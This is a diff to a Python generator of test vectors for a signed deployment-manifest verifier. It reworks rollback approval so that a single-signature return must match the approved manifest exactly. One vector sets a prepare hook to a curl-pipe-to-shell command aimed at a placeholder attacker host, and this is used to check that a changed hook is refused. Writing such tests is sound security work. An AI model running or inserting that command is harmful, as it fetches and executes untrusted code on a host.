@@ -214,7 +214,7 @@ def rollback_manifest(**changes):
 
 STAGING_HOST = {"hostID": "web-1", "environment": "staging"}
 PRODUCTION_HOST = {"hostID": "prod-1", "environment": "production"}
-NO_HISTORY = {"lastSerial": None, "lastPayloadDigest": None, "succeededReleases": []}
+NO_HISTORY = {"lastSerial": None, "lastPayloadDigest": None, "approvedReleases": {}}
 
 VECTORS = []
 
@@ -239,12 +239,27 @@ def refuse(code):
     return {"verdict": "refuse", "code": code}
 
 
-def history(last_serial=None, last_payload=None, succeeded=()):
+def history(last_serial=None, last_payload=None, approved=None):
+    """`approved`: release -> the payload bytes that release was approved with (held on the host)."""
     return {
         "lastSerial": last_serial,
         "lastPayloadDigest": sha256_hex(last_payload) if last_payload is not None else None,
-        "succeededReleases": sorted(succeeded),
+        "approvedReleases": {release: b64(payload) for release, payload in sorted((approved or {}).items())},
     }
+
+
+def approved_rollback_release(**changes):
+    """The manifest 2026.11.14-1 was approved with a week earlier (alice and bob signed it)."""
+    changes.setdefault("serial", 30)
+    changes.setdefault("issuedAt", "2026-11-14T09:00:00Z")
+    changes.setdefault("expiresAt", "2026-11-21T09:00:00Z")
+    changes.setdefault("notes", "Checkout in one page.")
+    return encode(rollback_manifest(**changes))
+
+
+def approved_other_release():
+    return encode(production(release="2026.11.07-2", serial=25, issuedAt="2026-11-07T09:00:00Z",
+                             expiresAt="2026-11-14T09:00:00Z"))
 
 
 def build():
@@ -264,15 +279,23 @@ def build():
            host=PRODUCTION_HOST)
 
     rb = encode(rollback_manifest())
+    held = history(41, prod, approved={ROLLBACK_RELEASE: approved_rollback_release(),
+                                       "2026.11.07-2": approved_other_release()})
     vector("accept-production-rollback-one-signature",
-           "Going back to a release this host already ran successfully (it is in succeededReleases, with the "
-           "same artifact digest in succeededArtifacts) needs only rollbackThreshold (1) signatures, with a "
-           "higher serial as always.",
+           "A return to a release this host holds (history.approvedReleases has the manifest it was approved with) "
+           "that equals that manifest in everything but serial, issuedAt, expiresAt and notes needs only "
+           "rollbackThreshold (1) signatures, with a higher serial as always.",
            envelope(rb, [ALICE]), accept([ALICE], rollback=True, required=1, payload=rb),
-           host=PRODUCTION_HOST,
-           history=dict(history(41, prod, succeeded=[ROLLBACK_RELEASE, "2026.11.07-2"]),
-                        succeededArtifacts={ROLLBACK_RELEASE: ARTIFACT_OLD}))
-
+           host=PRODUCTION_HOST, history=held)
+    newhooks = rollback_manifest()
+    newhooks["hooks"] = dict(newhooks["hooks"], prepare={"command": "curl -s https://evil.example/x | sh"})
+    newhooks_payload = encode(newhooks)
+    vector("accept-return-with-full-threshold-is-a-new-approval",
+           "alice and bob (the full threshold) sign release 2026.11.14-1, which this host holds, with a new prepare "
+           "hook: not a return but a new approval of that release, accepted under the full threshold.",
+           envelope(newhooks_payload, [ALICE, BOB]), accept([ALICE, BOB], rollback=False, required=2,
+                                                           payload=newhooks_payload),
+           host=PRODUCTION_HOST, history=held)
     env = envelope(staging, [ALICE])
     env["payload"] = b64url_nopad(staging)
     env["signatures"][0]["sig"] = b64url_nopad(ALICE.sign(pae(PAYLOAD_TYPE, staging)))
@@ -375,7 +398,8 @@ def build():
     vector("accept-higher-serial-after-history",
            "The host accepted serial 41 before; serial 42 is higher and accepted.",
            envelope(staging, [BOB]), accept([BOB], payload=staging),
-           history=history(41, encode(manifest(serial=41, release="2026.11.20-3")), succeeded=["2026.11.20-3"]))
+           history=history(41, encode(manifest(serial=41, release="2026.11.20-3")),
+                           approved={"2026.11.20-3": encode(manifest(serial=41, release="2026.11.20-3"))}))
 
     # ---- malformed ----------------------------------------------------------------
     vector("malformed-bad-json",
@@ -525,22 +549,31 @@ def build():
            host=PRODUCTION_HOST)
     rb_other = encode(rollback_manifest(release="2026.10.30-1"))
     vector("threshold-not-met-rollback-to-unknown-release",
-           "A single signature for an older release that never succeeded on this host: not a rollback, so "
-           "the full threshold applies.",
+           "A single signature for an older release this host does not hold (it never succeeded here, or "
+           "retention removed it with its approved manifest): not a return, so the full threshold applies.",
            envelope(rb_other, [ALICE]), refuse("threshold_not_met"), host=PRODUCTION_HOST,
-           history=history(41, prod, succeeded=[ROLLBACK_RELEASE]))
-    # The reduced rollback threshold must not be a way around approval. The release name
-    # matches one that succeeded here, but the artifact is a different one.
+           history=history(41, prod, approved={ROLLBACK_RELEASE: approved_rollback_release()}))
+    # The reduced rollback threshold must not be a way around approval: a return carries
+    # exactly the approved manifest, or it needs the full threshold.
     evil = rollback_manifest()
     evil["artifact"] = dict(evil["artifact"], sha256=sha256_hex(b"not the artifact that ran (TEST ONLY)"))
     evil_payload = encode(evil)
-    vector("threshold-not-met-rollback-with-different-artifact",
-           "One signature naming release 2026.11.14-1, which succeeded on this host, but with a different "
-           "artifact digest than the one that ran. That is new software, not a rollback: the full threshold "
-           "(2) applies. history.succeededArtifacts records the digest each succeeded release ran with.",
-           envelope(evil_payload, [ALICE]), refuse("threshold_not_met"), host=PRODUCTION_HOST,
-           history=dict(history(41, prod, succeeded=[ROLLBACK_RELEASE]),
-                        succeededArtifacts={ROLLBACK_RELEASE: ARTIFACT_OLD}))
+    vector("return-mismatch-different-artifact",
+           "One signature naming release 2026.11.14-1, which this host holds, but with a different artifact "
+           "digest than the one it was approved with. That is new software, not a return: refused with "
+           "return_mismatch (the full threshold, 2, would be needed).",
+           envelope(evil_payload, [ALICE]), refuse("return_mismatch"), host=PRODUCTION_HOST,
+           history=history(41, prod, approved={ROLLBACK_RELEASE: approved_rollback_release()}))
+    vector("return-mismatch-new-prepare-hook",
+           "One signature naming release 2026.11.14-1 with its approved artifact but a new prepare hook (a shell "
+           "command). A return runs exactly the approved manifest; a new command needs the full threshold.",
+           envelope(newhooks_payload, [ALICE]), refuse("return_mismatch"), host=PRODUCTION_HOST, history=held)
+    widened = rollback_manifest(targets=["prod-1", "prod-2"], keep=100)
+    widened_payload = encode(widened)
+    vector("return-mismatch-targets-and-keep",
+           "One signature naming release 2026.11.14-1 with its approved artifact and hooks, but other targets and "
+           "keep: every field but serial, issuedAt, expiresAt and notes must equal the approved manifest's.",
+           envelope(widened_payload, [ALICE]), refuse("return_mismatch"), host=PRODUCTION_HOST, history=held)
 
     # ---- invalid_manifest ---------------------------------------------------------
     def invalid(name, description, m, raw=None):
@@ -623,7 +656,7 @@ def build():
     vector("stale-serial-replay-of-an-old-manifest",
            "The very manifest the host accepted two deployments ago, resent: older than the last serial.",
            envelope(staging, [ALICE]), refuse("stale_serial"),
-           history=history(44, encode(manifest(serial=44)), succeeded=["2026.11.21-1"]))
+           history=history(44, encode(manifest(serial=44)), approved={"2026.11.21-1": encode(manifest(serial=40))}))
     other42 = encode(manifest(notes="A different manifest that also uses serial 42."))
     vector("serial-conflict",
            "serial 42 was already accepted for this app with different content.",
@@ -693,7 +726,7 @@ every vector through `ManifestVerifier`.
   "description": "what it tests",
   "envelope": {{"payload": "...", "payloadType": "...", "signatures": [{{"keyid": "...", "sig": "..."}}]}},
   "host": {{"hostID": "web-1", "environment": "staging"}},
-  "history": {{"lastSerial": null, "lastPayloadDigest": null, "succeededReleases": []}},
+  "history": {{"lastSerial": null, "lastPayloadDigest": null, "approvedReleases": {{}}}},
   "now": "2026-11-21T12:00:00Z",
   "expect": {{"verdict": "accept", "signers": ["<keyid>"], "isRollback": false,
              "requiredSignatures": 1, "payloadDigest": "<sha256 of the payload bytes>"}}
@@ -705,9 +738,9 @@ every vector through `ManifestVerifier`.
   envelope exactly as received (used for envelopes that are not JSON objects).
 * `host.hostID` may be `null`: verifying without a host id skips the `targets` check.
 * `history` is what the host remembers of the manifest's app: the serial and payload
-  digest (SHA-256 of the payload bytes) of the last accepted manifest, and the releases
-  that reached `succeeded` on the host. `succeededArtifacts`, when present, maps each of
-  those releases to the artifact SHA-256 it ran with.
+  digest (SHA-256 of the payload bytes) of the last accepted manifest, and in
+  `approvedReleases` the releases it holds and can return to, each with the payload
+  (standard base64) it was approved with under the full threshold.
 * `expect.verdict` is `accept` or `refuse`. A refusal names the error `code`
   (PROTOCOL.md, "Error codes"). An acceptance lists the `signers` (keyids of the
   distinct trusted keys whose signatures counted, sorted), `isRollback`,
